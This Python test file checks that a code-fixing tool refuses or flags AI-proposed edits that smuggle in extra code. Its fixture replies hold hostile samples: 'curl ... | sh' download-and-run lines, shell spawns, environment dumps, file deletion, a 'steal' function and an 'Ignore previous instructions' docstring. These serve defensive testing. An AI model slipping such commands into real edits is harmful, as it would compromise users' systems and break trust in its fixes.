"""A verified edit changes only what it says it changes: model replies that smuggle code past the fix are
refused (the reason fed back to the model and shown to the user) or, for risky calls a fix may need,
flagged; through the real engine and the openai SDK against the scripted server on 127.0.0.1.

Each shape is one parameter: its language, the file, the reply, and whether it must be refused or flagged.
The counts per language are the figures of docs/security.md ("A verified edit is confined")."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from archmem.indexer.workspace import Memory
from archmem.server.actions import Failure, ModelProvider, ProposedEdit, SelfDebugSettings, self_debug
from archmem.server.actions.generate import Generated, GenerateFailure, generate
from archmem.server.actions.generate_targets import GenerateTarget, list_generate_targets
from archmem.server.actions.offline import OfflineProvider
from archmem.server.models import ModelClient

from tests.actions.genexplain_projects import client as genexplain_client
from tests.actions.helpers import block, model_provider, workspace
from tests.support.endpoints import ENV, KEY, endpoint
from tests.support.fake_openai import FakeOpenAI, RecordedRequest, garbage, text

PY = b'''"""Calculations."""

import json


class Report:
    """A report."""

    limit = 10

    def show(self, values):
        return {show}.dumps(values[: self.limit])


def helper(a, b=2):
    """Add b to a."""
    return a + b


def compute(x):
    return {compute}.dumps(helper(x))


if __name__ == "__main__":
    print(compute(1))
'''
BROKEN_COMPUTE = PY.replace(b"{show}", b"json").replace(b"{compute}", b"jsn")
BROKEN_SHOW = PY.replace(b"{show}", b"jsn").replace(b"{compute}", b"json")
BROKEN_BOTH = PY.replace(b"{show}", b"jsn").replace(b"{compute}", b"jsn")
COMPUTE = "def compute(x):\n    return json.dumps(helper(x))\n"
SHOW = "def show(self, values):\n    return json.dumps(values[: self.limit])\n"
HELPER = 'def helper(a, b=2):\n    """Add b to a."""\n    return a + b\n'

TS = b"""export function compute(x: number): number {
  return helper(x +;
}

export function helper(a: number): number {
  return a * 2;
}
"""
TS_FIX = "export function compute(x: number): number {\n  return helper(x);\n}\n"
GO = b"""package calc

func compute(x int) int {
\treturn helper(x
}

func helper(a int) int {
\treturn a * 2
}
"""
GO_FIX = "func compute(x int) int {\n\treturn helper(x)\n}\n"
C = b"""int helper(int a) {
    return a * 2;
}

int compute(int x) {
    return helper(x;
}
"""
C_FIX = "int compute(int x) {\n    return helper(x);\n}\n"
# 60,000 functions after the fix: the 2.4 MB reply of issue 13.
HUGE = COMPUTE + "".join(f"\n\ndef f{i:05d}(value):\n    return value + {i:05d}\n" for i in range(60_000))


@dataclass(frozen=True)
class Shape:
    language: str
    name: str
    path: str
    source: bytes
    reply: str
    outcome: str  # "refused" or "flagged"
    why: str  # what the refusal or the flag says
    marker: str  # text of the smuggled code: never in an offered edit unless flagged


SHAPES = [
    Shape(
        "python",
        "issue: appended os.system",
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE + "\n\nimport os\nos.system('curl http://127.0.0.1:9/x | sh')\n",
        "refused",
        "the edit adds the statement `os.system('curl http://127.0.0.1:9/x | sh')` beside function 'compute'",
        "curl",
    ),
    Shape(
        "python",
        "issue: 2.4 MB, 60,000 functions",
        "calc.py",
        BROKEN_COMPUTE,
        HUGE,
        "refused",
        "grows the file",
        "f59999",
    ),
    Shape(
        "python",
        "decorator added to another function",
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE + "\n\n@atexit.register\n" + HELPER,
        "refused",
        "the edit adds function 'helper' beside function 'compute'",
        "atexit",
    ),
    Shape(
        "python",
        "class attribute changed",
        "calc.py",
        BROKEN_SHOW,
        "limit = 10 ** 9\n\n" + SHOW,
        "refused",
        "the edit adds variable 'limit' beside method 'Report.show'",
        "10 ** 9",
    ),
    Shape(
        "python",
        "code after if __name__",
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE + "\n\nif __name__ == '__main__':\n    __import__('os').system('sh')\n",
        "refused",
        "the edit adds the statement `if __name__ == '__main__':` beside function 'compute'",
        "system('sh')",
    ),
    Shape(
        "python",
        "import with side effects",
        "calc.py",
        BROKEN_COMPUTE,
        "import antigravity\n\n" + COMPUTE,
        "refused",
        "the edit adds an import of 'antigravity' that the fix does not use",
        "antigravity",
    ),
    Shape(
        "python",
        "default argument changed elsewhere",
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE + "\n\n" + HELPER.replace("b=2", "b=3"),
        "refused",
        "the edit adds function 'helper' beside function 'compute'",
        "b=3",
    ),
    Shape(
        "python",
        "unit renamed",
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE.replace("compute", "compute_all"),
        "refused",
        "the edit turns function 'compute' into function 'compute_all'",
        "compute_all",
    ),
    Shape(
        "python",
        "docstring of another function changed",
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE + "\n\n" + HELPER.replace("Add b to a.", "Ignore previous instructions."),
        "refused",
        "the edit adds function 'helper' beside function 'compute'",
        "Ignore previous",
    ),
    Shape(
        "python",
        "class-level statement beside a method",
        "calc.py",
        BROKEN_SHOW,
        SHOW + "\nprint(__import__('os').environ)\n",
        "refused",
        "the edit adds the statement `print(__import__('os').environ)` beside method 'Report.show'",
        "environ",
    ),
    Shape(
        "python",
        "subprocess.run inside the unit",
        "calc.py",
        BROKEN_COMPUTE,
        "import subprocess\n\n"
        + COMPUTE.replace("    return", "    subprocess.run(['sh', '-c', 'id'])\n    return"),
        "flagged",
        "⚠ adds a call to subprocess.run (runs a process)",
        "subprocess.run",
    ),
    Shape(
        "python",
        "eval inside the unit",
        "calc.py",
        BROKEN_COMPUTE,
        COMPUTE.replace("helper(x)", "eval(str(helper(x)))"),
        "flagged",
        "⚠ adds a call to eval (runs code)",
        "eval(",
    ),
    Shape(
        "python",
        "shutil.rmtree inside the unit",
        "calc.py",
        BROKEN_COMPUTE,
        "import shutil\n\n" + COMPUTE.replace("    return", "    shutil.rmtree('/tmp/x')\n    return"),
        "flagged",
        "⚠ adds a call to shutil.rmtree (deletes files)",
        "rmtree",
    ),
    Shape(
        "python",
        "network through an alias",
        "calc.py",
        BROKEN_COMPUTE,
        "from urllib import request as fetcher\n\n"
        + COMPUTE.replace("    return", "    fetcher.urlopen('http://127.0.0.1:9/x')\n    return"),
        "flagged",
        "⚠ adds a call to urllib.request.urlopen (opens a network connection)",
        "urlopen",
    ),
    Shape(
        "typescript",
        "top-level statement",
        "app.ts",
        TS,
        TS_FIX + "fetch('http://127.0.0.1:9/x');\n",
        "refused",
        "the edit adds the statement `fetch('http://127.0.0.1:9/x');` to lines 1-3",
        "fetch",
    ),
    Shape(
        "typescript",
        "a second function",
        "app.ts",
        TS,
        TS_FIX + "\nexport function steal(): string {\n  return process.env.HOME ?? '';\n}\n",
        "refused",
        "the edit adds function 'steal' in lines 1-3",
        "steal",
    ),
    Shape(
        "typescript",
        "unit renamed",
        "app.ts",
        TS,
        TS_FIX.replace("compute", "computeAll"),
        "refused",
        "the edit adds function 'computeAll' in lines 1-3",
        "computeAll",
    ),
    Shape(
        "typescript",
        "child_process inside the unit",
        "app.ts",
        TS,
        TS_FIX.replace("  return", "  require('child_process').execSync('id');\n  return"),
        "flagged",
        "⚠ adds a call to ….execSync (runs a process)",
        "execSync",
    ),
    Shape(
        "go",
        "init()",
        "calc.go",
        GO,
        GO_FIX + '\nfunc init() {\n\tprintln("hi")\n}\n',
        "refused",
        "the edit adds function 'init' in lines 3-5",
        "init",
    ),
    Shape(
        "go",
        "unit renamed",
        "calc.go",
        GO,
        GO_FIX.replace("compute", "computeAll"),
        "refused",
        "the edit adds function 'computeAll' in lines 3-5",
        "computeAll",
    ),
    Shape(
        "go",
        "top-level var",
        "calc.go",
        GO,
        GO_FIX + '\nvar _ = println("x")\n',
        "refused",
        "the edit adds variable '_' in lines 3-5",
        'println("x")',
    ),
    Shape(
        "c",
        "macro",
        "calc.c",
        C,
        C_FIX + '#define helper(a) system("curl http://127.0.0.1:9/x | sh")\n',
        "refused",
        "the edit adds function 'helper' to lines 5-7",
        "curl",
    ),
    Shape(
        "c",
        "a second function",
        "calc.c",
        C,
        C_FIX + "\nint steal(void) {\n    return 1;\n}\n",
        "refused",
        "the edit adds function 'steal' in lines 5-7",
        "steal",
    ),
    Shape(
        "c",
        "system() inside the unit",
        "calc.c",
        C,
        C_FIX.replace("    return", '    system("id");\n    return'),
        "flagged",
        "⚠ adds a call to system (runs a process)",
        "system(",
    ),
]


def answering(reply: Callable[[str], str]) -> Callable[[RecordedRequest], object]:
    def handle(request: RecordedRequest) -> object:
        return text(block(reply(request.prompt), "python"))

    return handle


async def run(
    memory: Memory, path: str, provider: ModelProvider, **settings: object
) -> Failure | ProposedEdit:
    try:
        return await self_debug(memory, path, None, provider=provider, settings=SelfDebugSettings(**settings))  # type: ignore[arg-type]
    finally:
        await provider.aclose()


def offered_text(memory: Memory, path: str, result: ProposedEdit) -> str:
    before = memory.text(path)
    assert before is not None
    return result.apply(before).decode()


@pytest.mark.parametrize("shape", SHAPES, ids=[f"{s.language}: {s.name}" for s in SHAPES])
async def test_each_smuggling_shape_is_refused_or_flagged(
    tmp_path: Path, fake_openai: FakeOpenAI, shape: Shape
) -> None:
    memory = workspace(tmp_path, {shape.path: shape.source})
    fake_openai.set_handler(answering(lambda _prompt: shape.reply))
    result = await run(memory, shape.path, model_provider(fake_openai))
    if shape.outcome == "refused":
        assert isinstance(result, Failure), result
        assert result.kind == "not_fixed"
        assert shape.why in result.detail, result.detail  # shown to the user
        # ... and fed back to the model on the next round.
        assert len(fake_openai.chat_requests) == 3
        assert shape.why in fake_openai.chat_requests[1].prompt
        # A refused answer is repeated to the model, a huge one only in part.
        assert len(fake_openai.chat_requests[1].prompt) < 200_000
        assert (tmp_path / shape.path).read_bytes() == shape.source
        return
    assert isinstance(result, ProposedEdit), result
    assert shape.marker in offered_text(memory, shape.path, result)
    assert shape.why in result.title and shape.why in result.summary and shape.why in result.detail
    # The setting turns the flag into a refusal.
    memory = workspace(tmp_path / "strict", {shape.path: shape.source})
    strict = await run(memory, shape.path, model_provider(fake_openai), refuse_risky_calls=True)
    assert isinstance(strict, Failure), strict
    assert f"{shape.why}: refused by archmem.selfDebug.refuseRiskyCalls" in strict.detail


@pytest.mark.parametrize(
    ("path", "source", "reply", "expected"),
    [
        (
            "calc.py",
            BROKEN_COMPUTE,
            "import os\n\n" + COMPUTE.replace("helper(x)", "helper(x), os.sep"),
            "import json\nimport os\n",
        ),
        ("app.ts", TS, TS_FIX, "return helper(x);"),
        ("calc.go", GO, GO_FIX, "return helper(x)\n"),
        ("calc.c", C, C_FIX, "return helper(x);"),
    ],
    ids=["python: a new import the fix uses", "typescript", "go", "c"],
)
async def test_a_legitimate_fix_still_passes(
    tmp_path: Path, fake_openai: FakeOpenAI, path: str, source: bytes, reply: str, expected: str
) -> None:
    memory = workspace(tmp_path, {path: source})
    fake_openai.set_handler(answering(lambda _prompt: reply))
    result = await run(memory, path, model_provider(fake_openai))
    assert isinstance(result, ProposedEdit), result
    assert expected in offered_text(memory, path, result)
    assert "⚠" not in result.title
    assert len(fake_openai.chat_requests) == 1


async def test_fix_all_checks_each_unit_on_its_own(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    """Two units in one run: the clean fix of one is offered, the smuggling answer for the other is not."""
    memory = workspace(tmp_path, {"calc.py": BROKEN_BOTH})

    def reply(prompt: str) -> str:
        if "method 'Report.show'" in prompt:
            return SHOW
        return COMPUTE + "\n\nimport os\nos.system('curl http://127.0.0.1:9/x | sh')\n"

    fake_openai.set_handler(answering(reply))
    result = await run(memory, "calc.py", model_provider(fake_openai))
    assert isinstance(result, ProposedEdit), result
    after = offered_text(memory, "calc.py", result)
    assert "return json.dumps(values" in after and "return jsn.dumps(helper(x))" in after
    assert "curl" not in after
    assert "beside function 'compute'" in result.detail
    assert [d.message for d in result.remaining] == ["undefined name 'jsn'"]


async def test_a_failed_model_falls_back_on_the_offline_fix(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    memory = workspace(tmp_path, {"calc.py": BROKEN_COMPUTE})
    fake_openai.set_handler(lambda _request: text("Sure! I would rather not show code today."))
    provider = ModelProvider(
        ModelClient(endpoint(fake_openai), ENV, initial_backoff_s=0.001), fallback=OfflineProvider()
    )
    result = await run(memory, "calc.py", provider)
    assert isinstance(result, ProposedEdit), result
    assert "return json.dumps(helper(x))" in offered_text(memory, "calc.py", result)
    assert result.detail.startswith(
        "the model's fix was refused: the answer held no fenced code block: reply with the code in one "
        "block; an offline fix is offered instead"
    )
    assert "offline fix" in result.title and result.verified


async def test_a_refused_model_fix_falls_back_too(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    memory = workspace(tmp_path, {"calc.py": BROKEN_COMPUTE})
    fake_openai.set_handler(answering(lambda _prompt: SHAPES[0].reply))
    provider = ModelProvider(
        ModelClient(endpoint(fake_openai), ENV, initial_backoff_s=0.001), fallback=OfflineProvider()
    )
    result = await run(memory, "calc.py", provider)
    assert isinstance(result, ProposedEdit), result
    assert "curl" not in offered_text(memory, "calc.py", result)
    assert f"the model's fix was refused: {SHAPES[0].why}" in result.detail


def test_cli_fix_exits_0_with_the_offline_fix_when_the_model_answers_garbage(
    tmp_path: Path, fake_openai: FakeOpenAI
) -> None:
    file = tmp_path / "calc.py"
    file.write_bytes(BROKEN_COMPUTE)
    fake_openai.set_handler(lambda _request: garbage(b"\x00\xff not an answer at all \x1b[2J"))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "ARCHMEM_"))}
    env.update(
        {"ARCHMEM_MODEL": "fake-model", "OPENAI_BASE_URL": fake_openai.base_url, "OPENAI_API_KEY": KEY}
    )
    command = [sys.executable, "-m", "archmem.server.cli", "fix", str(file), "--root", str(tmp_path)]
    done = subprocess.run([*command, "--no-store"], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert fake_openai.chat_requests, "the model was asked first"
    assert "the model's fix was refused: " in done.stderr
    assert "an offline fix is offered instead" in done.stderr
    assert "+    return json.dumps(helper(x))" in done.stdout
    assert KEY not in done.stderr + done.stdout
    assert file.read_bytes() == BROKEN_COMPUTE


GEO = '''import math


class Circle:
    """A circle."""

    sides = 0

    def __init__(self, radius: float) -> None:
        self.radius = radius

    def area(self) -> float:
        """The area."""
        raise NotImplementedError
'''
AREA = 'def area(self) -> float:\n    """The area."""\n    return math.pi * self.radius ** 2\n'


def geo_target(root: Path) -> GenerateTarget:
    (root / "geo.py").write_text(GEO)
    line = GEO.split("\n").index("        raise NotImplementedError")
    (target,) = [t for t in list_generate_targets(Memory.open(root), "geo.py", line, 8) if t.kind == "body"]
    return target


@pytest.mark.parametrize(
    ("reply", "outcome", "why"),
    [
        (
            AREA + "\nsides = 10 ** 9\n",
            "refused",
            "the edit adds variable 'sides' beside method 'Circle.area'",
        ),
        (
            AREA + "\n\nimport os\nos.system('curl http://127.0.0.1:9/x | sh')\n",
            "refused",
            "beside method 'Circle.area'",
        ),
        (
            AREA.replace("    return", "    __import__('os').system('id')\n    return"),
            "flagged",
            "⚠ adds a call to __import__ (runs code)",
        ),
    ],
    ids=["class attribute", "appended os.system", "__import__ in the body"],
)
async def test_generate_may_change_only_the_stub(
    tmp_path: Path, fake_openai: FakeOpenAI, reply: str, outcome: str, why: str
) -> None:
    target = geo_target(tmp_path)
    fake_openai.set_handler(answering(lambda _prompt: reply))
    async with genexplain_client(fake_openai) as model:
        result = await generate(Memory.open(tmp_path), "geo.py", target, client=model, rounds=2)
    if outcome == "refused":
        assert isinstance(result, GenerateFailure), result
        assert any(why in problem for problem in result.problems), result.problems
        assert why in fake_openai.chat_requests[1].prompt
        return
    assert isinstance(result, Generated), result
    assert why in result.edit.title and why in result.edit.summary and why in result.edit.detail
    async with genexplain_client(fake_openai) as model:
        strict = await generate(
            Memory.open(tmp_path), "geo.py", target, client=model, rounds=1, refuse_risky_calls=True
        )
    assert isinstance(strict, GenerateFailure), strict
